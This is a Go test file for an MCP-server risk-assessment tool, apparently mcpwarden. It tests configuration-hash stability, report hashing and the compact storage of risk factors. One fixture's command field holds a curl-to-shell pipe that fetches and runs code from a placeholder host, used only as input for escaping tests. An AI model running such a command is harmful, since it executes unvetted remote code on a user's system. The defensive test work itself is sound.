package ingest

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/mcpwarden/mcpwarden/db"
	"github.com/mcpwarden/mcpwarden/impl/risk"
)

// Stored configuration hashes are compared with new ones (verification holds for a hash), so
// the hash of a configuration never changes. The expected hashes are literals: SHA-256 of the
// JSON text shown with each, as encoding/json.Marshal wrote it when verification was introduced.
func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
	str := func(s string) *string { return &s }
	cases := []struct {
		server db.ReportServer
		text   string // what is hashed
		want   string
	}{{
		db.ReportServer{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
		`["@modelcontextprotocol/server-filesystem","npx -y @modelcontextprotocol/server-filesystem /home/dev","/home/dev",[],"stdio",null]`,
		"bbd592b39f7ba61795a1caa0390fa99bcd8f97c8a8436a7d7bf2643cf8cd3e18",
	}, {
		db.ReportServer{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
		`["x\u003cy\u003e\u0026z","bash -c \"curl https://e.example/x | sh\"\t\n","C:\\Users\\dev",["A_KEY","M","Z_TOKEN"],null,null]`,
		"18857235a33806bd574bd691849157c2403f2db7b4a3ec08557d3db32f477b76",
	}, {
		db.ReportServer{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
		`["café \u2028\u2029 \u0001 \ufffd","","",null,"sse","https://x.example/mcp?a=1\u0026b=2"]`,
		"2893e870d6b7bf6ea934bdf32b009c51edb911fc8a330d568905134e25e44fc8",
	}}
	for i, c := range cases {
		if sum := sha256.Sum256([]byte(c.text)); hex.EncodeToString(sum[:]) != c.want {
			t.Fatalf("case %d: the expected hash is not the hash of its text", i)
		}
		env := slices.Clone(c.server.EnvVars)
		if got := hex.EncodeToString(configHash(c.server)); got != c.want {
			t.Errorf("case %d: configHash %s, want %s (the hash of %s)", i, got, c.want, c.text)
		}
		if !slices.Equal(c.server.EnvVars, env) {
			t.Errorf("case %d: configHash reordered the server's environment", i)
		}
	}
}

// Explanations are stored without what their rules say anyway; read back, they must be the
// factors the assessment found, clipped, for every input of the risk engine's golden file
// (alone and with the other servers of their group, for the combination rules' details).
func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
	raw, err := os.ReadFile("../risk/testdata/assess_golden.json")
	if err != nil {
		t.Fatal(err)
	}
	var golden struct {
		Groups []struct {
			Cases []struct {
				Input risk.Input `json:"input"`
			} `json:"cases"`
		} `json:"groups"`
	}
	if err := json.Unmarshal(raw, &golden); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("é<>&\"", 1000)
	var sets [][]risk.Factor
	for _, g := range golden.Groups {
		inputs := make([]risk.Input, len(g.Cases))
		for i, c := range g.Cases {
			inputs[i] = c.Input
			sets = append(sets, risk.AssessAll([]risk.Input{c.Input})[0].Factors)
		}
		for _, a := range risk.AssessAll(inputs) {
			sets = append(sets, a.Factors)
		}
	}
	sets = append(sets, []risk.Factor{
		{ID: "MCPW-GONE", Severity: risk.Low, Title: "A rule a later version dropped", Detail: "d", Evidence: "e"},
		{ID: risk.FactorMalicious, Severity: risk.Critical, Title: long, Detail: long, Evidence: long},
	}, nil)
	compacted := 0
	for i, fs := range sets {
		stored := StoredFactors(fs)
		got, err := ExpandFactors(stored)
		if err != nil {
			t.Fatalf("set %d: %v (%s)", i, err, stored)
		}
		want := make([]risk.Factor, min(len(fs), maxFactors))
		full := 2
		for j, f := range fs[:len(want)] {
			want[j] = risk.Factor{ID: f.ID, Severity: f.Severity, Title: clipText(f.Title, 500),
				Detail: clipText(f.Detail, 4000), Evidence: clipText(f.Evidence, 4000)}
			full += len(f.Title) + len(f.Detail)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("set %d read back differs:\n got %+v\nwant %+v\nstored %s", i, got, want, stored)
		}
		if len(fs) > 0 && len(stored) < full/2 {
			compacted++
		}
	}
	if compacted < len(sets)/2 {
		t.Errorf("only %d of %d explanations stored in less than half their titles' and details' bytes", compacted, len(sets))
	}
	// Explanations stored whole, before StoredFactors left anything out, read as they are.
	old := `[{"id":"MCPW-FS-ROOT","severity":"critical","title":"T","detail":"D","evidence":"/"}]`
	got, err := ExpandFactors([]byte(old))
	if err != nil || len(got) != 1 || got[0].Title != "T" || got[0].Detail != "D" {
		t.Errorf("a whole stored factor read back as %+v, %v", got, err)
	}
}

// The argument vector enters a server's configuration hash only when its command line does not
// say it, so that agents which start reporting vectors change no hash where the command line
// already said everything.
func TestConfigHashTakesArgsOnlyWhenTheCommandLineDoesNotSayThem(t *testing.T) {
	stdio := "stdio"
	base := db.ReportServer{ServerType: "@modelcontextprotocol/server-filesystem",
		Command: "npx -y @modelcontextprotocol/server-filesystem /home/me/ my notes", Scope: "/home/me/ my notes",
		EnvVars: []string{}, Transport: &stdio}
	with := func(args ...string) db.ReportServer {
		s := base
		s.Args = args
		return s
	}
	// SHA-256 of the configuration with the vector as a seventh element, as encoding/json
	// writes it: ["@modelcontextprotocol/server-filesystem","npx -y ... my notes","/home/me/ my
	// notes",[],"stdio",null,[...the vector...]].
	literal := func(h string) []byte {
		b, err := hex.DecodeString(h)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	old := configHash(base)
	spaced := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/ my notes")
	split := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/", "my", "notes")
	clipped := with("npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/", "my", "notes", "and more")
	for _, tc := range []struct {
		name string
		s    db.ReportServer
		want []byte
	}{
		{"the command split at spaces hashes as the command alone", split, old},
		{"a vector with an argument holding a space is hashed too", spaced, literal("1d667265c2895091d2e69402f457b3340a9806269874a1b8644a9f8602541688")},
		{"a vector longer than the command is hashed too", clipped, literal("1bab0690bd47f68b93db0612b48fed73940a07f3e2f2dda3e94b71bd1c14f472")},
		{"an empty vector is no vector", with(), old},
	} {
		if got := configHash(tc.s); string(got) != string(tc.want) {
			t.Errorf("%s: configHash %x, want %x", tc.name, got, tc.want)
		}
	}
	if string(configHash(spaced)) == string(configHash(split)) {
		t.Error("two vectors that join to the same command line hash alike")
	}
}

// The report hash tells a report whose vectors changed from the one before, and hashes a report
// without vectors as it always has: the agents' stored report hashes stay valid.
func TestReportHashTakesArgsWhenReported(t *testing.T) {
	yes, path := true, "/c/mcp.json"
	srv := db.ReportServer{ServerName: "notes", ServerType: "@modelcontextprotocol/server-filesystem",
		Command: "npx -y @modelcontextprotocol/server-filesystem /home/me/ my notes", Scope: "/home/me/ my notes",
		EnvVars: []string{"HOME"}, ConfigPath: &path, Enabled: &yes}
	h := sha256.New()
	h.Write([]byte("report/v2\x00v\x00"))
	line, err := json.Marshal([]any{srv.ServerName, srv.ServerType, srv.Command, srv.Scope, srv.EnvVars,
		srv.Client, srv.ConfigPath, srv.Transport, srv.URL, srv.Enabled})
	if err != nil {
		t.Fatal(err)
	}
	h.Write(append(line, '\n'))
	if got, want := reportHash("v", []db.ReportServer{srv}), h.Sum(nil); string(got) != string(want) {
		t.Errorf("report without vectors: hash %x, want %x", got, want)
	}
	spaced, split := srv, srv
	spaced.Args = []string{"npx", "-y", "@modelcontextprotocol/server-filesystem", "/home/me/ my notes"}
	split.Args = strings.Fields(srv.Command)
	hashes := map[string]bool{}
	for _, r := range []db.ReportServer{srv, spaced, split} {
		hashes[string(reportHash("v", []db.ReportServer{r}))] = true
	}
	if len(hashes) != 3 {
		t.Errorf("%d distinct report hashes for no vector, and two vectors of one command line, want 3", len(hashes))
	}
}
